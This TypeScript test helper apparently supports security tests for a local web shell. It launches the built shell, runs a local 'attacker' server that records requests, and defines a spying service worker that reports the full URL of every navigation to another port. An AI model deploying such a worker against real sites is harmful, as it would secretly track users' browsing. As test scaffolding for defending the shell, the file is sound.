import { spawn } from 'node:child_process';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync } from 'node:fs';
import { join, resolve } from 'node:path';

const root = resolve(import.meta.dirname, '../..');
const entry = join(root, 'out/main/web.js');
/** The page is served from the build, which `npm test` makes first. */
export const isBuilt = existsSync(entry);

export type RunningShell = { link: string; port: number; stop(): Promise<void> };

/** The built web shell, as a user starts it, at this port or a free one. */
export async function startShell(home: string, port = 0): Promise<RunningShell> {
  const child = spawn(process.execPath, [entry, '--no-open', '--port', String(port)], {
    env: { ...process.env, WIREBENCH_HOME: home },
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  const ended = new Promise((done) => child.once('close', done));
  const link = await new Promise<string>((done, fail) => {
    let printed = '';
    child.stdout.setEncoding('utf8').on('data', (text: string) => {
      printed += text;
      const found = /http:\/\/\S+/.exec(printed)?.[0];
      if (found) done(found);
    });
    child.once('close', (code) => fail(new Error(`the web shell ended with ${code}`)));
  });
  const stop = async () => {
    child.kill('SIGTERM');
    await ended;
  };
  return { link, port: Number(new URL(link).port), stop };
}

export type Attacker = {
  port: number;
  /** The heads of what browsers sent it, the first first. */
  requests: Pick<IncomingMessage, 'url' | 'headers'>[];
  close(): Promise<void>;
};

/** Another program on this machine, which answers any host and path with one of these files, or a page. */
export async function startAttacker(
  files: Record<string, string> = {},
  port = 0,
): Promise<Attacker> {
  const requests: Attacker['requests'] = [];
  const server = createServer(({ url = '', headers }, response) => {
    requests.push({ url, headers });
    const path = url.replace(/\?.*/, '');
    const type = path.endsWith('.js') ? 'text/javascript' : 'text/html; charset=utf-8';
    response.writeHead(200, { 'Content-Type': type, 'Access-Control-Allow-Origin': '*' });
    response.end(files[path] ?? '<!doctype html><title>Another program</title>');
  });
  await new Promise<void>((done) => {
    server.listen(port, '127.0.0.1', done);
  });
  return {
    port: (server.address() as AddressInfo).port,
    requests,
    close: () =>
      new Promise((done) => {
        server.close(() => done());
        server.closeAllConnections();
      }),
  };
}

/** A service worker that passes all on, and tells another port of each navigation, with its whole address. */
export const spyingWorker = (tellPort: number) => `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    if (event.request.mode !== 'navigate') return;
    const seen = encodeURIComponent(event.request.url);
    event.respondWith((async () => {
      await fetch('http://127.0.0.1:${tellPort}/seen?' + seen, { mode: 'no-cors' });
      return fetch(event.request);
    })());
  });`;
